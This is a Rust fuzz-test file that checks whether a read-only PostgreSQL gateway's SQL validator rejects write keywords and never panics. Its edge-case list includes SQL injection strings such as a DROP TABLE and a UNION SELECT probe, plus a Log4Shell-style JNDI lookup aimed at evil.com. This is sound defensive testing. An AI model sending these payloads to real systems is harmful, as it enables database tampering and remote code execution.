//! Black-box fuzzing of the SQL validator.
//!
//! Generates random, malicious, and edge-case query texts to check that the
//! validator never panics and never lets a write keyword through.

use pg_readonly_gateway::tools::sql_validator::{FORBIDDEN_KEYWORDS, RejectionReason, validate};
use rand::Rng;
use rand::distributions::Alphanumeric;
use rand::seq::SliceRandom;

const ITERATIONS: usize = 2_000;

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Random text drawn from characters that stress the tokenizer.
fn random_sql_noise(len: usize) -> String {
    const ALPHABET: &[char] = &[
        'a', 'Z', '0', ' ', '\n', '\t', '\'', '"', ';', '-', '/', '*', '$', '(', ')', ',', '.',
        'é', '🚀', '\\', 'E', ':', '=',
    ];
    let mut rng = rand::thread_rng();
    (0..len)
        .map(|_| *ALPHABET.choose(&mut rng).unwrap_or(&' '))
        .collect()
}

fn random_case(word: &str) -> String {
    let mut rng = rand::thread_rng();
    word.chars()
        .map(|c| {
            if rng.gen_bool(0.5) {
                c.to_ascii_lowercase()
            } else {
                c.to_ascii_uppercase()
            }
        })
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "🚀".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "$$".to_string(),
        "$tag$ unterminated".to_string(),
        "/* unterminated".to_string(),
        "E'\\".to_string(),
        ";".to_string(),
        ";;;".to_string(),
        "a".repeat(100_000),
        "SELECT ".repeat(10_000),
        "\u{0000}\u{FFFF}".to_string(),
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
    ]
}

#[test]
fn fuzz_edge_cases_never_panic() {
    for sql in edge_case_strings() {
        let _ = validate(&sql);
    }
}

#[test]
fn fuzz_random_noise_never_panics() {
    let mut rng = rand::thread_rng();
    for _ in 0..ITERATIONS {
        let len = rng.gen_range(0..200);
        let sql = random_sql_noise(len);
        if let Ok(validated) = validate(&sql) {
            assert!(!validated.as_str().trim().is_empty(), "{sql:?}");
        }
    }
}

#[test]
fn fuzz_forbidden_keyword_always_rejected() {
    let mut rng = rand::thread_rng();
    for _ in 0..ITERATIONS {
        let keyword = FORBIDDEN_KEYWORDS
            .choose(&mut rng)
            .copied()
            .unwrap_or("DELETE");
        let sql = format!(
            "{} {} {}",
            random_case(keyword),
            random_string(rng.gen_range(0..20)),
            random_string(rng.gen_range(0..20))
        );

        match validate(&sql) {
            Err(RejectionReason::ForbiddenKeyword { keyword: found }) => {
                assert!(found.eq_ignore_ascii_case(keyword), "{sql:?}")
            }
            other => panic!("{sql:?} was not rejected by keyword: {other:?}"),
        }
    }
}

#[test]
fn fuzz_keyword_after_select_always_rejected() {
    let mut rng = rand::thread_rng();
    for _ in 0..ITERATIONS {
        let keyword = FORBIDDEN_KEYWORDS
            .choose(&mut rng)
            .copied()
            .unwrap_or("DROP");
        let separator = if rng.gen_bool(0.5) { "; " } else { " " };
        let sql = format!(
            "SELECT {}{}{} {}",
            random_string(rng.gen_range(1..10)),
            separator,
            random_case(keyword),
            random_string(rng.gen_range(1..10))
        );

        assert!(
            matches!(validate(&sql), Err(RejectionReason::ForbiddenKeyword { .. })),
            "{sql:?}"
        );
    }
}

#[test]
fn fuzz_keyword_in_literal_allowed() {
    let mut rng = rand::thread_rng();
    for _ in 0..ITERATIONS {
        let keyword = FORBIDDEN_KEYWORDS
            .choose(&mut rng)
            .copied()
            .unwrap_or("UPDATE");
        let sql = format!(
            "SELECT '{} {}' AS note",
            random_case(keyword),
            random_string(rng.gen_range(0..20))
        );
        assert!(validate(&sql).is_ok(), "{sql:?}");
    }
}
